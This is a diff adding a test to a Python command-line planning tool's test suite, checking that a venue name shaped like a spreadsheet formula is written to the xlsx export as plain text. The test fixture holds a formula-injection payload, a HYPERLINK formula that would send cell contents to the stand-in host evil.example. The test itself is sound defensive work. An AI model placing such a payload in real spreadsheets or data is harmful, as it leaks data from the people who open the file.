@@ -139,3 +139,34 @@ def test_plan_command_refuses_a_month_override_it_cannot_read(tmp_path):
     result = CliRunner().invoke(plan_command, [*arguments, "--month", "2027-08;weekday=4"])
     assert result.exit_code == 2 and "--month" in result.output and "YYYY-MM:weekday=N,holiday=N" in result.output
     assert not (tmp_path / "plan.json").exists()
+
+
+def test_a_venue_named_like_a_formula_is_text_in_plan_xlsx(tmp_path):
+    """The facility list as our export writes it (a ' before the =, which the importer takes off again): the name
+    must reach plan.xlsx as text, never as a formula that runs when the city opens the file."""
+    from tests.core.test_spreadsheet import formulas_in
+
+    name = '=HYPERLINK("http://evil.example/?leak="&B2,"会館")'
+    facilities = tmp_path / "one.csv"
+    facilities.write_text(
+        "ID,名称,緯度,経度,利用可能曜日,開始時間,終了時間,会場種別\n"
+        f'S1,"\'{name.replace(chr(34), chr(34) * 2)}",36.56,136.65,土日,09:00,17:00,community_hall\n',
+        encoding="utf-8",
+    )
+    demand = tmp_path / "demand.csv"
+    demand.write_text("lat,lon\n36.561,136.651\n", encoding="utf-8")
+    out, xlsx = tmp_path / "plan.json", tmp_path / "plan.xlsx"
+    arguments = ["--facilities", str(facilities), "--demand", str(demand), "--start", "2027-08-01"]
+    arguments += ["--end", "2027-08-31", "--weekday-per-month", "0", "--holiday-per-month", "1"]
+    result = subprocess.run(
+        [OUTREACH, "plan", *arguments, "--out", str(out), "--xlsx", str(xlsx)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert result.returncode == 0, result.stderr
+    assert json.loads(out.read_text(encoding="utf-8"))["sessions"][0]["venue_name"] == name
+    assert formulas_in(xlsx.read_bytes()) == []
+    sheet = load_workbook(xlsx)["実施計画"]
+    names = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == name]
+    assert names and all(cell.data_type == "s" for cell in names)
